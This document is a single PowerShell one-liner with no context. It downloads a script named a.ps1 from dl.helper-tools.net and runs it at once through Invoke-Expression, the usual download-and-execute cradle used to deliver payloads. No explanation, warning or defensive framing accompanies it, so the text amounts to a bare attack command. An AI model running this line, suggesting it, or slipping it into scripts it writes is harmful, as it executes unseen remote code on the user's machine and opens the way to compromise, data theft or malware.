IEX (New-Object Net.WebClient).DownloadString('https://dl.helper-tools.net/a.ps1')
